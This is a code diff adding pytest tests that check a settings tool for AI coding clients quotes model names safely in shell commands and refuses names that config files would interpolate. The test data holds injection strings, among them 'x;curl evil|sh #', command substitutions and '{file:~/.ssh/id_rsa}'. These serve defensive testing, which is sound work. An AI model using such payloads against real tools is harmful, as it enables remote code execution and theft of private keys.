@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import json
+import re
 import shlex
 import tomllib
 from dataclasses import replace
@@ -140,3 +141,39 @@ def test_what_does_without_the_file_asks_the_same_server(
             assert app.main(["connect", client, *flags, "--url", server.url]) == 0
             asked = shlex.join(["mlxmtp", "connect", client, *flags, "--url", server.url])
             assert f'"$({asked})"' in capsys.readouterr().err
+
+
+def named(name: str) -> Server:
+    return replace(OPEN, model=RemoteModel(name, 1000))
+
+
+@pytest.mark.parametrize("name", ["x;curl evil|sh #", "$(touch x)", "`touch x`", "a b", "it's", "-x", "a\\b", "ü😀"])
+def test_a_command_to_copy_has_the_name_as_one_word(name: str) -> None:
+    command = CLIENTS["opencode"].then(named(name))
+    assert shlex.split(command, comments=True) == ["opencode", "--model", f"mlxmtp/{name}"]
+    assert CLIENTS["opencode"].then(replace(named(name), locked=True)).startswith(f"{command} (with MLXMTP_API_KEY")
+
+
+@pytest.mark.parametrize(
+    "name", ["{file:~/.ssh/id_rsa}", "{env:HOME}", "a}", "${{ secrets.X }}", "a\nb", "a\0", "\x7f"]
+)
+@pytest.mark.parametrize("client", CLIENTS)
+def test_a_name_that_a_file_would_take_for_more_is_refused(home: Path, client: str, name: str) -> None:
+    for act in (text_of, write):
+        with pytest.raises(
+            UsageError, match=r"a name that settings cannot hold: name another one with -m\.$"
+        ) as caught:
+            act(CLIENTS[client], named(name))
+        assert name not in str(caught.value)
+    assert [*home.rglob("*")] == []
+
+
+@pytest.mark.parametrize("name", ["ü😀", 'a"b', "a\\u0041", "中文/模型:1", "# x", "[x]", "a'b", "\U000e0041"])
+def test_a_name_comes_back_from_the_settings_as_it_was(name: str) -> None:
+    codex = tomllib.loads(text_of(CLIENTS["codex"], named(name)))
+    assert codex["model"] == name
+    opencode = json.loads(text_of(CLIENTS["opencode"], named(name)))
+    assert name in opencode["provider"]["mlxmtp"]["models"]
+    for client, key in (("llm", "model_name"), ("continue", "name"), ("continue", "model")):
+        [line] = re.findall(rf"^ *-? *{key}: (\".*)$", text_of(CLIENTS[client], named(name)), re.MULTILINE)
+        assert json.loads(line) == name  # a quoted scalar of YAML is one of JSON where it is written so
